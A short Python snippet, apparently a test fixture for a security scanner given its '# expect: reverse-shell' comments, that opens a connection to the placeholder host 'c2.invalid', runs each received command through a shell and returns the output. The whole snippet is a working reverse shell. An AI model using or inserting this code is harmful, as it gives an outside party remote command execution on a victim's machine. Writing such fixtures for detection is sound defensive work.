import socket
import subprocess
c = socket.create_connection(("c2.invalid", 8443))  # expect: reverse-shell
while True:
    cmd = c.recv(1024).decode()
    out = subprocess.check_output(cmd, shell=True)  # expect: reverse-shell
    c.sendall(out)
